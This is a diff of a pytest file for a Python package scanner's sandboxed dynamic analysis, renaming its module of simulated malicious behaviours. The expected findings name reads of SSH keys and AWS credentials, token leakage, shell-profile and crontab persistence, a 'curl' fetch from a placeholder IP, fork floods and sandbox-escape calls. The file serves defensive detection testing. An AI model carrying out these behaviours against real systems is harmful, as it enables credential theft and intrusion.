@@ -13,8 +13,8 @@ from pathlib import Path
 
 import pytest
 
-from support import imitations
-from support.imitations import at_import, at_install, at_startup
+from support import misbehaviour
+from support.misbehaviour import at_import, at_install, at_startup
 from wheelmark.scan import Context, Finding, Sample, Severity
 from wheelmark.scan.dynamic.bounds import MIB, LookBounds
 from wheelmark.scan.dynamic.look import Look, Looker, open_looker
@@ -48,21 +48,21 @@ def said(look: Look) -> str:
 @pytest.mark.parametrize(
     ("source", "rule", "evidence"),
     [
-        (imitations.CONNECT, "dynamic-contact", "connect 192.0.2.1 port 443"),
-        (imitations.LOOK_UP, "dynamic-contact", "asks for the address of collect.example.invalid"),
-        (imitations.READ_KEY, "dynamic-decoy-read", "~/.ssh/id_ed25519"),
-        (imitations.READ_RELATIVE, "dynamic-decoy-read", "~/.aws/credentials"),
-        (imitations.SHOW_TOKEN, "dynamic-decoy-used", "GitHub token in a command line"),
-        (imitations.ENCODE_TOKEN, "dynamic-decoy-used", "PyPI token in what is written"),
-        (imitations.PROFILE, "dynamic-autostart", "writes ~/.bashrc"),
-        (imitations.CURL, "dynamic-transfer", "sh -c curl -s http://192.0.2.1/x"),
-        (imitations.DROP_AND_RUN, "dynamic-dropped-run", "/tmp/run-me"),
-        (imitations.FORK_MANY, "dynamic-many-processes", "more than 40 processes"),
-        (imitations.DELETE_SELF, "dynamic-self-delete", "widget/__init__.py"),
-        (imitations.WAKE_PARENT, "dynamic-interferes", "sends a signal to a process that it did not start"),
-        (imitations.UNSHARE, "dynamic-escape", "calls unshare"),
-        (imitations.LISTEN, "dynamic-listen", "listens on a socket"),
-        (imitations.DAEMON, "dynamic-left-running", "was ended with the sandbox"),
+        (misbehaviour.CONNECT, "dynamic-contact", "connect 192.0.2.1 port 443"),
+        (misbehaviour.LOOK_UP, "dynamic-contact", "asks for the address of collect.example.invalid"),
+        (misbehaviour.READ_KEY, "dynamic-decoy-read", "~/.ssh/id_ed25519"),
+        (misbehaviour.READ_RELATIVE, "dynamic-decoy-read", "~/.aws/credentials"),
+        (misbehaviour.SHOW_TOKEN, "dynamic-decoy-used", "GitHub token in a command line"),
+        (misbehaviour.ENCODE_TOKEN, "dynamic-decoy-used", "PyPI token in what is written"),
+        (misbehaviour.PROFILE, "dynamic-autostart", "writes ~/.bashrc"),
+        (misbehaviour.CURL, "dynamic-transfer", "sh -c curl -s http://192.0.2.1/x"),
+        (misbehaviour.DROP_AND_RUN, "dynamic-dropped-run", "/tmp/run-me"),
+        (misbehaviour.FORK_MANY, "dynamic-many-processes", "more than 40 processes"),
+        (misbehaviour.DELETE_SELF, "dynamic-self-delete", "widget/__init__.py"),
+        (misbehaviour.WAKE_PARENT, "dynamic-interferes", "sends a signal to a process that it did not start"),
+        (misbehaviour.UNSHARE, "dynamic-escape", "calls unshare"),
+        (misbehaviour.LISTEN, "dynamic-listen", "listens on a socket"),
+        (misbehaviour.DAEMON, "dynamic-left-running", "was ended with the sandbox"),
     ],
 )
 def test_what_an_import_does_is_seen(looker: Looker, tmp_path: Path, source: str, rule: str, evidence: str) -> None:
@@ -77,9 +77,9 @@ def test_what_an_import_does_is_seen(looker: Looker, tmp_path: Path, source: str
 @pytest.mark.parametrize(
     ("source", "rule"),
     [
-        (imitations.CONNECT, "dynamic-contact"),
-        (imitations.CRONTAB, "dynamic-autostart"),
-        (imitations.READ_KEY, "dynamic-decoy-read"),
+        (misbehaviour.CONNECT, "dynamic-contact"),
+        (misbehaviour.CRONTAB, "dynamic-autostart"),
+        (misbehaviour.READ_KEY, "dynamic-decoy-read"),
     ],
 )
 def test_what_an_installation_does_is_critical(looker: Looker, tmp_path: Path, source: str, rule: str) -> None:
@@ -115,7 +115,7 @@ def test_harmless_distribution_gives_nothing(looker: Looker, tmp_path: Path, sam
 
 
 def test_in_tree_backend_is_run(looker: Looker, tmp_path: Path) -> None:
-    backend = f"import os\ndef build_wheel(directory, settings=None, metadata=None):\n    {imitations.READ_KEY}"
+    backend = f"import os\ndef build_wheel(directory, settings=None, metadata=None):\n    {misbehaviour.READ_KEY}"
     pyproject = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
     look = look_at(looker, tmp_path, Sample.sdist({"pyproject.toml": pyproject, "_build/backend.py": backend}))
     assert found(look, "dynamic-decoy-read").member == "widget-1/_build/backend.py"
@@ -139,13 +139,13 @@ def test_missing_dependency_is_told_and_no_error(looker: Looker, tmp_path: Path)
 @pytest.mark.parametrize(
     ("source", "changed", "reason"),
     [
-        (imitations.ENDLESS, {"step_seconds": 1.0}, "a step did not end in its time"),
-        (imitations.ENDLESS, {"phase_seconds": 1.0}, "timed out after 1 s"),
-        (imitations.ENDLESS, {"cpu_seconds": 1}, "a process used more CPU time than it may"),
-        (imitations.FLOOD, {}, "bytes of output, got more"),
-        (imitations.FORK_MANY, {"max_trace_bytes": MIB // 4}, "bytes of trace, got more"),
-        (imitations.HOLD_MEMORY, {"max_resident_bytes": 200 * MIB}, "bytes of memory in use, got more"),
-        (imitations.KILL_PARENT, {}, "the sandbox's driver was ended by SIGKILL"),
+        (misbehaviour.ENDLESS, {"step_seconds": 1.0}, "a step did not end in its time"),
+        (misbehaviour.ENDLESS, {"phase_seconds": 1.0}, "timed out after 1 s"),
+        (misbehaviour.ENDLESS, {"cpu_seconds": 1}, "a process used more CPU time than it may"),
+        (misbehaviour.FLOOD, {}, "bytes of output, got more"),
+        (misbehaviour.FORK_MANY, {"max_trace_bytes": MIB // 4}, "bytes of trace, got more"),
+        (misbehaviour.HOLD_MEMORY, {"max_resident_bytes": 200 * MIB}, "bytes of memory in use, got more"),
+        (misbehaviour.KILL_PARENT, {}, "the sandbox's driver was ended by SIGKILL"),
     ],
     ids=["step", "phase", "cpu", "output", "trace", "memory", "driver"],
 )
@@ -159,19 +159,19 @@ def test_look_that_breaks_off_says_so(
 
 
 def test_nothing_of_the_host_is_there(looker: Looker, tmp_path: Path) -> None:
-    words = said(look_at(looker, tmp_path, at_import(imitations.LOOK_AROUND))).split()
+    words = said(look_at(looker, tmp_path, at_import(misbehaviour.LOOK_AROUND))).split()
     assert {"usr", "work", "home"} <= set(words)
     assert not {"root", "var", "srv", "mnt", "sys", "boot", "run"} & set(words)
     assert len([word for word in words if word.isdigit()]) == 3  # the reaper, the driver, itself
 
 
 def test_the_driver_cannot_be_read(looker: Looker, tmp_path: Path) -> None:
-    look = look_at(looker, tmp_path, at_import(imitations.READ_PARENT))
+    look = look_at(looker, tmp_path, at_import(misbehaviour.READ_PARENT))
     assert said(look) == "kept out: mem environ fd"
 
 
 def test_memory_file_systems_are_limited(looker: Looker, tmp_path: Path) -> None:
-    assert said(look_at(looker, tmp_path, at_import(imitations.FILL_SCRATCH))) == "OSError"
+    assert said(look_at(looker, tmp_path, at_import(misbehaviour.FILL_SCRATCH))) == "OSError"
 
 
 def test_archive_that_is_too_large_is_not_run(looker: Looker, tmp_path: Path) -> None:
@@ -188,7 +188,7 @@ def test_paths_that_climb_are_not_laid_out(looker: Looker, tmp_path: Path) -> No
 
 
 def test_two_looks_see_the_same(looker: Looker, tmp_path: Path) -> None:
-    source = imitations.READ_KEY + imitations.LOOK_UP + imitations.FORK_MANY + imitations.DROP_AND_RUN
+    source = misbehaviour.READ_KEY + misbehaviour.LOOK_UP + misbehaviour.FORK_MANY + misbehaviour.DROP_AND_RUN
     source += "import tempfile\nopen(tempfile.mktemp(dir=os.path.expanduser('~/.cache' if 0 else '~')), 'w')\n"
     first, second = (look_at(looker, tmp_path, at_import(source)) for _ in range(2))
     assert first == second
@@ -204,7 +204,7 @@ def scan(path: Path, *options: str, **environment: str) -> subprocess.CompletedP
 
 def test_command_says_what_was_seen_and_that_it_was_run(tmp_path: Path) -> None:
     path = tmp_path / "widget-1.tar.gz"
-    path.write_bytes(at_install(imitations.CONNECT).packed())
+    path.write_bytes(at_install(misbehaviour.CONNECT).packed())
     shown = scan(path, "--dynamic")
     assert shown.returncode == 1
     assert "dynamic look: ran install, import under Python" in shown.stdout
@@ -220,7 +220,7 @@ def test_command_says_what_was_seen_and_that_it_was_run(tmp_path: Path) -> None:
 
 def test_command_without_the_option_runs_nothing(tmp_path: Path) -> None:
     path = tmp_path / "widget-1.tar.gz"
-    path.write_bytes(at_install(imitations.CONNECT).packed())
+    path.write_bytes(at_install(misbehaviour.CONNECT).packed())
     report = json.loads(scan(path, "--format", "json").stdout)
     assert "dynamic" not in report
     assert not [finding for finding in report["findings"] if finding["rule"].startswith("dynamic-")]
